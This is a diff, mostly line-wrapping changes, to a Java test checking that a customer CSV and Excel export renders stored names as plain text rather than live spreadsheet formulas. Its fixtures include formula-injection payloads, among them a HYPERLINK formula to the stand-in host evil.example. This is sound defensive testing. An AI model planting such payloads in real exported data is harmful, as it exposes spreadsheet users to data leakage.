@@ -41,33 +41,52 @@ class FormulaInjectionExportTest {
 
     @Autowired
     Exports exports;
+
     @Autowired
     CustomerExport customerExport;
+
     @Autowired
     CustomerService customers;
+
     @Autowired
     TestUsers users;
+
     @Autowired
     JdbcTemplate jdbc;
 
     /** By external reference: the stored names, each of which a spreadsheet would run as a formula. */
     Map<String, String> storedNames(String marker) {
         Map<String, String> names = new HashMap<>();
-        names.put("FI-" + marker + "-1", "=HYPERLINK(\"https://evil.example/?" + marker + "\",\"Open " + marker + "\")");
+        names.put(
+                "FI-" + marker + "-1", "=HYPERLINK(\"https://evil.example/?" + marker + "\",\"Open " + marker + "\")");
         names.put("FI-" + marker + "-2", " =1+1 " + marker);
         names.put("FI-" + marker + "-3", "\t@SUM(1+1) " + marker);
         names.put("FI-" + marker + "-4", "  -2+3 " + marker);
         names.put("FI-" + marker + "-5", "Plain " + marker);
         names.forEach((ref, name) -> {
-            CustomerDetails created = users.as("manager", () -> customers.create(new CustomerForm(ref, "Placeholder " + marker,
-                    CustomerKind.COMPANY, null, null, null, null, "SE", CustomerSegment.SMB, CustomerStatus.ACTIVE, null, null)));
+            CustomerDetails created = users.as(
+                    "manager",
+                    () -> customers.create(new CustomerForm(
+                            ref,
+                            "Placeholder " + marker,
+                            CustomerKind.COMPANY,
+                            null,
+                            null,
+                            null,
+                            null,
+                            "SE",
+                            CustomerSegment.SMB,
+                            CustomerStatus.ACTIVE,
+                            null,
+                            null)));
             jdbc.update("update customer set name = ? where id = ?", name, created.id());
         });
         return names;
     }
 
     @Test
-    void stored_names_that_spreadsheets_would_run_leave_the_csv_export_as_text_even_after_leading_whitespace() throws Exception {
+    void stored_names_that_spreadsheets_would_run_leave_the_csv_export_as_text_even_after_leading_whitespace()
+            throws Exception {
         String marker = UUID.randomUUID().toString().substring(0, 8);
         Map<String, String> names = storedNames(marker);
         CustomerFilter mine = new CustomerFilter(marker, null, null, null, null, null, null, null);
@@ -76,7 +95,13 @@ class FormulaInjectionExportTest {
 
         String text = Files.readString(file.path());
         Map<String, String> exported = new HashMap<>();
-        try (CSVParser parser = CSVParser.parse(text.substring(1), CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
+        try (CSVParser parser = CSVParser.parse(
+                text.substring(1),
+                CSVFormat.RFC4180
+                        .builder()
+                        .setHeader()
+                        .setSkipHeaderRecord(true)
+                        .get())) {
             for (CSVRecord row : parser.getRecords()) {
                 exported.put(row.get("External ref"), row.get("Name"));
             }
@@ -89,16 +114,19 @@ class FormulaInjectionExportTest {
     }
 
     @Test
-    void the_same_names_in_an_excel_export_are_text_cells_holding_exactly_the_stored_value_and_no_cell_is_a_formula() throws Exception {
+    void the_same_names_in_an_excel_export_are_text_cells_holding_exactly_the_stored_value_and_no_cell_is_a_formula()
+            throws Exception {
         String marker = UUID.randomUUID().toString().substring(0, 8);
         Map<String, String> names = storedNames(marker);
         CustomerFilter mine = new CustomerFilter(marker, null, null, null, null, null, null, null);
 
-        ExportFile file = users.as("admin", () -> exports.run(customerExport.query(mine, List.of()), ExportFormat.XLSX));
+        ExportFile file =
+                users.as("admin", () -> exports.run(customerExport.query(mine, List.of()), ExportFormat.XLSX));
 
         Map<String, String> exported = new HashMap<>();
         List<String> formulas = new ArrayList<>();
-        try (InputStream in = Files.newInputStream(file.path()); XSSFWorkbook workbook = new XSSFWorkbook(in)) {
+        try (InputStream in = Files.newInputStream(file.path());
+                XSSFWorkbook workbook = new XSSFWorkbook(in)) {
             Sheet sheet = workbook.getSheetAt(0);
             for (Row row : sheet) {
                 for (Cell cell : row) {
@@ -108,7 +136,8 @@ class FormulaInjectionExportTest {
                 }
                 if (row.getRowNum() > 0) {
                     assertThat(row.getCell(1).getCellType()).isEqualTo(CellType.STRING);
-                    exported.put(row.getCell(0).getStringCellValue(), row.getCell(1).getStringCellValue());
+                    exported.put(
+                            row.getCell(0).getStringCellValue(), row.getCell(1).getStringCellValue());
                 }
             }
         }
